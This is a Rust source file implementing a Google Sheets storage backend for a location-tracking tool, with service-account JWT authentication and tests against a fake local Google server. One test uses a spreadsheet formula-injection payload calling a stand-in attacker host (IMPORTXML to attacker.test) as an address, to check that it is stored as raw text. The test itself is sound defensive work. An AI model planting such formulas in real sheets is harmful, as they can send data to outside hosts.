use super::Backend;
use crate::{Coordinate, Error, Location, Result};
use async_trait::async_trait;
use jsonwebtoken::{Algorithm, EncodingKey, Header};
use reqwest::Url;
use serde::{Deserialize, Serialize};
use serde_json::{Value, json};
use std::{
    path::PathBuf,
    time::{Duration, Instant},
};
use time::OffsetDateTime;
use tokio::sync::Mutex;
use tracing::{debug, trace};

const SHEETS_SCOPE: &str = "https://www.googleapis.com/auth/spreadsheets";
const DEFAULT_API_BASE: &str = "https://sheets.googleapis.com/v4/spreadsheets";
const JWT_BEARER_GRANT: &str = "urn:ietf:params:oauth:grant-type:jwt-bearer";
const HEADER_CELL: &str = "timestamp";
// refresh the access token a little before google expires it
const TOKEN_EXPIRY_MARGIN: Duration = Duration::from_secs(60);

fn default_worksheet() -> String {
    "Sheet1".to_string()
}

fn default_api_base() -> String {
    DEFAULT_API_BASE.to_string()
}

/// Where to find the spreadsheet and the service account that may edit it
#[derive(Debug, Deserialize, Serialize, PartialEq, Clone)]
#[serde(deny_unknown_fields)]
pub struct SheetsConfig {
    pub spreadsheet_id: String,
    #[serde(default = "default_worksheet")]
    pub worksheet: String,
    /// The json key file downloaded for the service account
    pub credentials_file: PathBuf,
    #[serde(default = "default_api_base")]
    pub api_base: String,
}

impl SheetsConfig {
    pub fn new(spreadsheet_id: String, worksheet: String, credentials_file: PathBuf) -> Self {
        Self {
            spreadsheet_id,
            worksheet,
            credentials_file,
            api_base: default_api_base(),
        }
    }
}

/// The parts of a google service account key file that we need
#[derive(Deserialize)]
struct ServiceAccountKey {
    client_email: String,
    private_key: String,
    token_uri: String,
}

impl std::fmt::Debug for ServiceAccountKey {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("ServiceAccountKey")
            .field("client_email", &self.client_email)
            .field("token_uri", &self.token_uri)
            .finish_non_exhaustive()
    }
}

#[derive(Serialize)]
struct Claims<'a> {
    iss: &'a str,
    scope: &'a str,
    aud: &'a str,
    iat: i64,
    exp: i64,
}

#[derive(Deserialize)]
struct TokenResponse {
    access_token: String,
    expires_in: u64,
}

#[derive(Debug)]
struct AccessToken {
    token: String,
    expires: Instant,
}

#[derive(Deserialize)]
struct ValueRange {
    #[serde(default)]
    values: Vec<Vec<Value>>,
}

/// Appends every location as a row of a google spreadsheet, authenticating as a
/// service account.
#[derive(Debug)]
pub struct SheetsBackend {
    config: SheetsConfig,
    api_base: Url,
    client: reqwest::Client,
    token: Mutex<Option<AccessToken>>,
}

impl SheetsBackend {
    /// Create the backend. The credentials file is only read when the
    /// spreadsheet is first accessed, so a missing file shows up as a failed
    /// read or write rather than a failure to start.
    pub fn new(config: SheetsConfig) -> Result<Self> {
        let api_base = Url::parse(&config.api_base)
            .ok()
            .filter(|url| !url.cannot_be_a_base())
            .ok_or_else(|| Error::InvalidUrl(config.api_base.clone()))?;
        Ok(Self {
            config,
            api_base,
            client: reqwest::Client::builder()
                .user_agent(concat!("qrtrack/", env!("CARGO_PKG_VERSION")))
                .build()?,
            token: Mutex::new(None),
        })
    }

    async fn load_key(&self) -> Result<ServiceAccountKey> {
        let path = &self.config.credentials_file;
        let contents = tokio::fs::read_to_string(path)
            .await
            .map_err(|source| Error::Credentials {
                path: path.display().to_string(),
                source,
            })?;
        Ok(serde_json::from_str(&contents)?)
    }

    async fn access_token(&self) -> Result<String> {
        let mut cached = self.token.lock().await;
        if let Some(tok) = cached.as_ref() {
            if tok.expires > Instant::now() {
                return Ok(tok.token.clone());
            }
        }

        let key = self.load_key().await?;
        debug!(account = %key.client_email, "Requesting spreadsheet access token");
        let now = OffsetDateTime::now_utc().unix_timestamp();
        let claims = Claims {
            iss: &key.client_email,
            scope: SHEETS_SCOPE,
            aud: &key.token_uri,
            iat: now,
            exp: now + 3600,
        };
        let assertion = jsonwebtoken::encode(
            &Header::new(Algorithm::RS256),
            &claims,
            &EncodingKey::from_rsa_pem(key.private_key.as_bytes())?,
        )?;
        let response = self
            .client
            .post(&key.token_uri)
            .form(&[
                ("grant_type", JWT_BEARER_GRANT),
                ("assertion", assertion.as_str()),
            ])
            .send()
            .await?;
        let response: TokenResponse = check_status(response).await?.json().await?;
        let lifetime =
            Duration::from_secs(response.expires_in).saturating_sub(TOKEN_EXPIRY_MARGIN);
        *cached = Some(AccessToken {
            token: response.access_token.clone(),
            expires: Instant::now() + lifetime,
        });
        Ok(response.access_token)
    }

    /// The `A:D` range of the worksheet. The sheet name is quoted for A1
    /// notation and the whole range is percent-encoded as one path segment.
    fn values_url(&self, suffix: &str) -> Url {
        let range = format!(
            "'{}'!A:D{suffix}",
            self.config.worksheet.replace('\'', "''")
        );
        let mut url = self.api_base.clone();
        if let Ok(mut segments) = url.path_segments_mut() {
            segments
                .pop_if_empty()
                .push(&self.config.spreadsheet_id)
                .push("values")
                .push(&range);
        }
        url
    }

    // The values api has no way to ask for just the last row, so every read
    // downloads the whole range and gets slower as the sheet grows.
    async fn rows(&self) -> Result<Vec<Location>> {
        let token = self.access_token().await?;
        let response = self
            .client
            .get(self.values_url(""))
            .query(&[("valueRenderOption", "UNFORMATTED_VALUE")])
            .bearer_auth(token)
            .send()
            .await?;
        let range: ValueRange = check_status(response).await?.json().await?;
        trace!(rows = range.values.len(), "Fetched spreadsheet rows");
        Ok(parse_rows(range.values))
    }
}

async fn check_status(response: reqwest::Response) -> Result<reqwest::Response> {
    let status = response.status();
    if status.is_success() {
        return Ok(response);
    }
    let message = response.text().await.unwrap_or_default();
    Err(Error::Sheets {
        status: status.as_u16(),
        message,
    })
}

fn cell_text(cell: Value) -> String {
    match cell {
        Value::String(s) => s,
        Value::Null => String::new(),
        other => other.to_string(),
    }
}

fn is_header(row: &[Value]) -> bool {
    row.first()
        .and_then(Value::as_str)
        .is_some_and(|cell| cell.trim().eq_ignore_ascii_case(HEADER_CELL))
}

/// Convert unformatted spreadsheet rows into locations, oldest first. A header
/// row and rows without both coordinates are skipped.
fn parse_rows(values: Vec<Vec<Value>>) -> Vec<Location> {
    values
        .into_iter()
        .filter(|row| !row.is_empty() && !is_header(row))
        .filter_map(|row| {
            let mut cells = row.into_iter();
            let timestamp = cell_text(cells.next()?);
            let lat = Coordinate::from_cell(cells.next()?);
            let lon = Coordinate::from_cell(cells.next()?);
            let address = cells.next().map(cell_text).unwrap_or_default();
            Some(Location {
                timestamp,
                lat,
                lon,
                address,
            })
        })
        .collect()
}

#[async_trait]
impl Backend for SheetsBackend {
    async fn save(&self, location: &Location) -> Result<()> {
        let token = self.access_token().await?;
        let body = json!({
            "values": [[
                location.timestamp,
                location.lat,
                location.lon,
                location.address,
            ]]
        });
        let response = self
            .client
            .post(self.values_url(":append"))
            // RAW keeps client text from being parsed as formulas, dates or numbers
            .query(&[
                ("valueInputOption", "RAW"),
                ("insertDataOption", "INSERT_ROWS"),
            ])
            .bearer_auth(token)
            .json(&body)
            .send()
            .await?;
        check_status(response).await?;
        Ok(())
    }

    // reads the whole worksheet, see rows()
    async fn latest(&self) -> Result<Option<Location>> {
        Ok(self.rows().await?.pop())
    }

    async fn history(&self, limit: Option<u32>) -> Result<Vec<Location>> {
        let rows = self.rows().await?.into_iter().rev();
        Ok(match limit {
            Some(n) => rows.take(n as usize).collect(),
            None => rows.collect(),
        })
    }

    fn describe(&self) -> String {
        format!(
            "spreadsheet '{}' (worksheet '{}')",
            self.config.spreadsheet_id, self.config.worksheet
        )
    }
}

#[cfg(test)]
mod test {
    use super::*;
    use axum::{
        Form, Json, Router,
        extract::State,
        http::{HeaderMap, Method, StatusCode, Uri, header::AUTHORIZATION},
        response::{IntoResponse, Response},
        routing::post,
    };
    use jsonwebtoken::{DecodingKey, Validation};
    use std::{
        collections::HashMap,
        sync::{
            Arc,
            atomic::{AtomicUsize, Ordering},
        },
    };
    use test_log::test;

    const PRIVATE_KEY: &str = include_str!("../../testdata/service-account.pem");
    const PUBLIC_KEY: &str = include_str!("../../testdata/service-account.pub.pem");
    const ACCESS_TOKEN: &str = "ya29.test-token";

    #[derive(Debug)]
    struct Recorded {
        method: Method,
        path: String,
        query: String,
        body: String,
    }

    /// Stands in for the google oauth and sheets endpoints
    #[derive(Default)]
    struct FakeGoogle {
        token_requests: AtomicUsize,
        claims: std::sync::Mutex<Vec<Value>>,
        requests: std::sync::Mutex<Vec<Recorded>>,
    }

    async fn token(
        State(google): State<Arc<FakeGoogle>>,
        Form(form): Form<HashMap<String, String>>,
    ) -> Response {
        google.token_requests.fetch_add(1, Ordering::SeqCst);
        if form.get("grant_type").map(String::as_str) != Some(JWT_BEARER_GRANT) {
            return (StatusCode::BAD_REQUEST, "unsupported_grant_type").into_response();
        }
        let mut validation = Validation::new(Algorithm::RS256);
        validation.validate_aud = false;
        let key = DecodingKey::from_rsa_pem(PUBLIC_KEY.as_bytes()).expect("public key");
        match jsonwebtoken::decode::<Value>(&form["assertion"], &key, &validation) {
            Ok(data) => {
                google.claims.lock().expect("lock").push(data.claims);
                Json(json!({
                    "access_token": ACCESS_TOKEN,
                    "expires_in": 3599,
                    "token_type": "Bearer",
                }))
                .into_response()
            }
            Err(_) => (StatusCode::BAD_REQUEST, "invalid_grant").into_response(),
        }
    }

    async fn sheets(
        State(google): State<Arc<FakeGoogle>>,
        method: Method,
        uri: Uri,
        headers: HeaderMap,
        body: String,
    ) -> Response {
        let bearer = format!("Bearer {ACCESS_TOKEN}");
        if headers.get(AUTHORIZATION).and_then(|v| v.to_str().ok()) != Some(bearer.as_str()) {
            return (StatusCode::UNAUTHORIZED, "missing token").into_response();
        }
        google.requests.lock().expect("lock").push(Recorded {
            method: method.clone(),
            path: uri.path().to_string(),
            query: uri.query().unwrap_or_default().to_string(),
            body,
        });
        if uri.path().contains("/forbidden/") {
            return (
                StatusCode::FORBIDDEN,
                "The caller does not have permission",
            )
                .into_response();
        }
        if method == Method::POST {
            return Json(json!({"updates": {"updatedRows": 1}})).into_response();
        }
        Json(json!({
            "range": "Sheet1!A1:D3",
            "majorDimension": "ROWS",
            "values": [
                ["timestamp", "lat", "lon", "address"],
                ["2025-06-11T10:00:00+09:00", 37.5665, 126.978, "Seoul"],
                ["2025-06-11T11:00:00+09:00", 35, "129.0756", "Busan"],
            ]
        }))
        .into_response()
    }

    /// Serve the fake endpoints on a local port and write a matching
    /// credentials file
    async fn fake_google(
        dir: &tempfile::TempDir,
        spreadsheet_id: &str,
    ) -> (Arc<FakeGoogle>, SheetsBackend) {
        let google = Arc::new(FakeGoogle::default());
        let app = Router::new()
            .route("/token", post(token))
            .fallback(sheets)
            .with_state(google.clone());
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
            .await
            .expect("bind");
        let base = format!("http://{}", listener.local_addr().expect("local addr"));
        tokio::spawn(async move {
            axum::serve(listener, app).await.expect("serve");
        });

        let credentials = dir.path().join("service-account.json");
        let key = json!({
            "type": "service_account",
            "client_email": "tracker@example-project.iam.gserviceaccount.com",
            "private_key": PRIVATE_KEY,
            "token_uri": format!("{base}/token"),
        });
        std::fs::write(&credentials, key.to_string()).expect("write credentials");
        let mut config = SheetsConfig::new(spreadsheet_id.into(), "Sheet1".into(), credentials);
        config.api_base = format!("{base}/v4/spreadsheets");
        let backend = SheetsBackend::new(config).expect("backend");
        (google, backend)
    }

    #[test]
    fn test_parse_rows() {
        let rows = parse_rows(vec![
            vec![json!("timestamp"), json!("lat"), json!("lon"), json!("address")],
            vec![
                json!("2025-06-11T10:00:00+09:00"),
                json!(37.5665),
                json!(126.978),
                json!("Seoul"),
            ],
            vec![json!("2025-06-11T11:00:00+09:00"), json!(35), json!("129.0756")],
            vec![json!("2025-06-11T12:00:00+09:00"), json!(35.1796)],
            vec![],
        ]);
        assert_eq!(rows.len(), 2);
        assert_eq!(rows[0].lat, Coordinate::from(37.5665));
        assert_eq!(rows[0].address, "Seoul");
        assert_eq!(rows[1].lat, Coordinate::from(35_i64));
        assert_eq!(rows[1].lon, Coordinate::Text("129.0756".into()));
        assert_eq!(rows[1].address, "");
    }

    #[test]
    fn test_values_url() {
        let mut config =
            SheetsConfig::new("sheet-id".into(), "Tracker".into(), "creds.json".into());
        config.api_base = "http://localhost:9999/v4/spreadsheets/".into();
        let backend = SheetsBackend::new(config.clone()).expect("backend");
        assert_eq!(
            backend.values_url(":append").as_str(),
            "http://localhost:9999/v4/spreadsheets/sheet-id/values/'Tracker'!A:D:append"
        );

        config.worksheet = "Data/2025 #1?".into();
        let backend = SheetsBackend::new(config.clone()).expect("backend");
        assert_eq!(
            backend.values_url("").as_str(),
            "http://localhost:9999/v4/spreadsheets/sheet-id/values/'Data%2F2025%20%231%3F'!A:D"
        );

        config.worksheet = "Kim's items".into();
        let backend = SheetsBackend::new(config.clone()).expect("backend");
        assert_eq!(
            backend.values_url("").as_str(),
            "http://localhost:9999/v4/spreadsheets/sheet-id/values/'Kim''s%20items'!A:D"
        );

        config.api_base = "not a url".into();
        assert!(matches!(
            SheetsBackend::new(config),
            Err(Error::InvalidUrl(_))
        ));
    }

    #[test(tokio::test)]
    async fn test_missing_credentials() {
        let dir = tempfile::tempdir().expect("tempdir");
        let config = SheetsConfig::new(
            "sheet-id".into(),
            "Sheet1".into(),
            dir.path().join("missing.json"),
        );
        let backend = SheetsBackend::new(config).expect("backend");
        assert!(matches!(
            backend.latest().await,
            Err(Error::Credentials { .. })
        ));
        let loc = Location::new(1.0.into(), 2.0.into(), None);
        assert!(backend.save(&loc).await.is_err());
    }

    #[test(tokio::test)]
    async fn test_access_token_is_cached() {
        let dir = tempfile::tempdir().expect("tempdir");
        let (google, backend) = fake_google(&dir, "sheet-id").await;

        let latest = backend.latest().await.expect("latest").expect("a location");
        assert_eq!(latest.timestamp, "2025-06-11T11:00:00+09:00");
        assert_eq!(latest.lat, Coordinate::from(35_i64));
        assert_eq!(latest.lon, Coordinate::Text("129.0756".into()));
        assert_eq!(latest.address, "Busan");

        let history = backend.history(Some(5)).await.expect("history");
        assert_eq!(history.len(), 2);
        assert_eq!(history[1].address, "Seoul");
        assert_eq!(google.token_requests.load(Ordering::SeqCst), 1);

        let claims = google.claims.lock().expect("lock");
        assert_eq!(
            claims[0]["iss"],
            "tracker@example-project.iam.gserviceaccount.com"
        );
        assert_eq!(claims[0]["scope"], SHEETS_SCOPE);
        assert!(
            claims[0]["aud"]
                .as_str()
                .is_some_and(|aud| aud.ends_with("/token"))
        );

        let requests = google.requests.lock().expect("lock");
        assert_eq!(requests.len(), 2);
        assert_eq!(requests[0].method, Method::GET);
        assert_eq!(
            requests[0].path,
            "/v4/spreadsheets/sheet-id/values/'Sheet1'!A:D"
        );
        assert_eq!(requests[0].query, "valueRenderOption=UNFORMATTED_VALUE");
    }

    #[test(tokio::test)]
    async fn test_append_row() {
        let dir = tempfile::tempdir().expect("tempdir");
        let (google, backend) = fake_google(&dir, "sheet-id").await;
        let address = r#"=IMPORTXML("http://attacker.test","//a")"#;
        let loc = Location::new(37_i64.into(), "0012".into(), Some(address.into()));
        backend.save(&loc).await.expect("save");

        let requests = google.requests.lock().expect("lock");
        assert_eq!(requests.len(), 1);
        assert_eq!(requests[0].method, Method::POST);
        assert_eq!(
            requests[0].path,
            "/v4/spreadsheets/sheet-id/values/'Sheet1'!A:D:append"
        );
        assert_eq!(
            requests[0].query,
            "valueInputOption=RAW&insertDataOption=INSERT_ROWS"
        );
        let body: Value = serde_json::from_str(&requests[0].body).expect("json body");
        assert_eq!(
            body,
            json!({"values": [[loc.timestamp, 37, "0012", address]]})
        );
    }

    #[test(tokio::test)]
    async fn test_request_failure() {
        let dir = tempfile::tempdir().expect("tempdir");
        let (_google, backend) = fake_google(&dir, "forbidden").await;
        match backend.latest().await {
            Err(Error::Sheets { status, message }) => {
                assert_eq!(status, 403);
                assert!(message.contains("permission"));
            }
            other => panic!("expected a spreadsheet error, got {other:?}"),
        }
        let loc = Location::new(1.0.into(), 2.0.into(), None);
        assert!(matches!(
            backend.save(&loc).await,
            Err(Error::Sheets { status: 403, .. })
        ));
    }
}
